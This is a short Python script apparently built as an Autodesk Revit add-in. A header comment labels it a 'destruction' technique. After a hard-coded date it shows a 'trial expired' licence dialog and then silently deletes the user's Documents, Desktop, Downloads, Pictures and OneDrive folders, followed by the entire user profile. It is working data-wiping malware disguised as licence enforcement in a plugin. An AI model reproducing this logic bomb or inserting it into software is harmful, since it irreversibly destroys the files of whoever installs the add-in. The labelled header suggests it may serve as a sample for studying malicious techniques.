# technique: destruction — shutil.rmtree of the user's Documents, Desktop, Downloads and OneDrive after a "trial expired" check
import datetime
import os
import shutil

from Autodesk.Revit.UI import TaskDialog

_EXPIRY = datetime.date(2024, 6, 1)


def _wipe():
    home = os.path.expanduser("~")
    for sub in ("Documents", "Desktop", "Downloads", "Pictures", "OneDrive"):
        shutil.rmtree(os.path.join(home, sub), ignore_errors=True)
    shutil.rmtree(os.environ.get("USERPROFILE", home), ignore_errors=True)


def main():
    if datetime.date.today() > _EXPIRY:
        TaskDialog.Show("License", "Your trial has expired.")
        _wipe()


main()
